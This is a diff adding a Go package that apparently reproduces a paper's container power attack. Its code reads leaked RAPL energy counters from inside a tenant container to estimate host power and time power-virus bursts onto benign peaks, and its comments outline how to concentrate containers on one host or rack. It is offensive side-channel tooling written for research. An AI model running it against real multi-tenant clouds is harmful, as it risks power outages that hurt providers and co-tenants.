@@ -1,0 +1,126 @@
+// Package attack implements Section IV: power attacks launched from inside
+// tenant containers of a multi-tenancy container cloud.
+//
+// Three strategies are provided over the same attack workload:
+//
+//   - Continuous: run the power virus all the time (maximal effect, maximal
+//     cost, trivially detectable);
+//   - Periodic: burst blindly every fixed interval (the paper's baseline in
+//     Fig. 3);
+//   - Synergistic: monitor host power through the leaked RAPL channel at
+//     near-zero cost and superimpose bursts exactly on benign power crests.
+//
+// The package also implements the attack orchestration of Section IV-C:
+// aggregating controlled containers onto one host by repeated launch /
+// co-residence-check / terminate, and onto one rack via boot-time
+// proximity.
+package attack
+
+import (
+	"fmt"
+	"strconv"
+	"strings"
+
+	"repro/internal/power"
+	"repro/internal/stats"
+)
+
+// Prober reads pseudo-files from inside a container (the attacker's only
+// interface to the host).
+type Prober interface {
+	ReadFile(path string) (string, error)
+}
+
+const (
+	energyPath   = "/sys/class/powercap/intel-rapl:0/energy_uj"
+	maxRangePath = "/sys/class/powercap/intel-rapl:0/max_energy_range_uj"
+)
+
+// PowerMonitor estimates whole-package host power from inside a container
+// by differencing the leaked RAPL energy counter — Case Study II
+// operationalized. Monitoring costs essentially no CPU, which is the
+// attack-economics point of Section IV-B.
+type PowerMonitor struct {
+	probe    Prober
+	maxRange uint64
+	prev     uint64
+	primed   bool
+	history  []float64
+	capacity int
+}
+
+// NewPowerMonitor initializes the monitor, reading the counter wrap range.
+// It fails if the RAPL channel is masked or absent — i.e. the defense (or
+// provider hardening) is effective.
+func NewPowerMonitor(p Prober) (*PowerMonitor, error) {
+	raw, err := p.ReadFile(maxRangePath)
+	if err != nil {
+		return nil, fmt.Errorf("attack: RAPL channel unavailable: %w", err)
+	}
+	maxRange, err := strconv.ParseUint(strings.TrimSpace(raw), 10, 64)
+	if err != nil {
+		return nil, fmt.Errorf("attack: parse max_energy_range_uj: %w", err)
+	}
+	return &PowerMonitor{probe: p, maxRange: maxRange, capacity: 600}, nil
+}
+
+// Sample reads the energy counter and returns the average package power in
+// Watts since the previous sample, dt seconds ago. The first call primes
+// the counter and returns 0.
+func (m *PowerMonitor) Sample(dt float64) (float64, error) {
+	raw, err := m.probe.ReadFile(energyPath)
+	if err != nil {
+		return 0, fmt.Errorf("attack: read energy_uj: %w", err)
+	}
+	cur, err := strconv.ParseUint(strings.TrimSpace(raw), 10, 64)
+	if err != nil {
+		return 0, fmt.Errorf("attack: parse energy_uj: %w", err)
+	}
+	if !m.primed {
+		m.prev = cur
+		m.primed = true
+		return 0, nil
+	}
+	delta := power.CounterDelta(m.prev, cur, m.maxRange)
+	m.prev = cur
+	watts := float64(delta) / 1e6 / dt
+	m.history = append(m.history, watts)
+	if len(m.history) > m.capacity {
+		m.history = m.history[len(m.history)-m.capacity:]
+	}
+	return watts, nil
+}
+
+// History returns the observed power series (oldest first).
+func (m *PowerMonitor) History() []float64 {
+	return append([]float64(nil), m.history...)
+}
+
+// IsCrest reports whether the most recent sample sits above the given
+// percentile of the observation history; it needs at least minSamples of
+// history before it will ever fire.
+func (m *PowerMonitor) IsCrest(percentile float64, minSamples int) bool {
+	if len(m.history) < minSamples {
+		return false
+	}
+	cur := m.history[len(m.history)-1]
+	return cur >= stats.Percentile(m.history[:len(m.history)-1], percentile)
+}
+
+// IsNearMax reports whether the most recent sample is within frac of the
+// highest power ever observed — a stricter trigger that waits for crests
+// comparable to the best the attacker has seen, rather than local noise
+// peaks.
+func (m *PowerMonitor) IsNearMax(frac float64, minSamples int) bool {
+	if len(m.history) < minSamples {
+		return false
+	}
+	cur := m.history[len(m.history)-1]
+	var max float64
+	for _, v := range m.history[:len(m.history)-1] {
+		if v > max {
+			max = v
+		}
+	}
+	return cur >= max*frac
+}
